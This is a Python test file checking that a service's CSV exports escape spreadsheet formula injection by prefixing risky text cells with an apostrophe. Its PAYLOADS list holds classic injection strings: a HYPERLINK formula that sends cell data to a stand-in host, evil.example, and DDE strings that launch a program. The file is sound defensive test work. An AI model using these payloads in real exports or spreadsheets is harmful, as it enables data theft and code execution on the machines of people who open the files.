"""CSV formula injection (OWASP): a text cell that a spreadsheet would evaluate as a formula is
exported with a leading ``'``, in every text column of every CSV export; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import asyncpg
import httpx
import pytest

from service.api.rest.responses import FORMULA_STARTS, formula_safe
from tests.api.graphql.seed import Seeded

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]

NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")

EXPORTS = [
    "/api/v1/researchers?format=csv",
    "/api/v1/institutions?format=csv",
    "/api/v1/moves?format=csv",
    "/api/v1/job-postings?format=csv",
    "/api/v1/flows?format=csv&level=INSTITUTION",
    "/api/v1/flows?format=csv&level=COUNTRY",
    "/api/v1/net-flows?format=csv",
    "/api/v1/hiring-signals?format=csv",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_safe_prefixes_text_only(text: str) -> None:
    assert formula_safe(text) == "'" + text
    assert formula_safe(-2) == -2
    assert formula_safe(3.5) == 3.5
    assert formula_safe("Shunyu Yao") == "Shunyu Yao"
    assert formula_safe("") == ""


async def test_every_export_escapes_every_text_cell(
    client: httpx.AsyncClient, pool: asyncpg.Pool, seeded: Seeded
) -> None:
    # Put a payload in every free-text column the exports carry.
    async with pool.acquire() as conn:
        for n, (_key, pk) in enumerate(sorted(seeded.researchers.items())):
            text = PAYLOADS[n % len(PAYLOADS)]
            await conn.execute(
                "UPDATE researcher SET display_name = $2, native_name = $3 WHERE id = $1",
                pk,
                text,
                PAYLOADS[(n + 1) % len(PAYLOADS)],
            )
        for n, (_slug, pk) in enumerate(sorted(seeded.institutions.items())):
            await conn.execute(
                "UPDATE institution SET name = $2, city = $3, website = $4 WHERE id = $1",
                pk,
                PAYLOADS[n % len(PAYLOADS)] + f" #{n}",
                PAYLOADS[(n + 2) % len(PAYLOADS)],
                PAYLOADS[(n + 3) % len(PAYLOADS)],
            )
        await conn.execute("UPDATE job_posting SET title = $1, team = $2", PAYLOADS[0], PAYLOADS[3])
    payload_cells = 0
    for url in EXPORTS:
        r = await client.get(url)
        assert r.status_code == 200, (url, r.status_code, r.text[:300])
        rows = list(csv.reader(io.StringIO(r.text, newline="")))
        assert rows, url
        for row in rows[1:]:
            for cell in row:
                if not NUMBER.fullmatch(cell):  # a number column, e.g. a net flow of -1
                    assert not cell.startswith(FORMULA_STARTS), (url, cell)
                if cell.startswith("'") and cell[1:] in set(PAYLOADS) | {
                    p + f" #{n}" for p in PAYLOADS for n in range(20)
                }:
                    payload_cells += 1
    # the payloads did reach the exports (escaped), so the check above saw them
    assert payload_cells >= 10
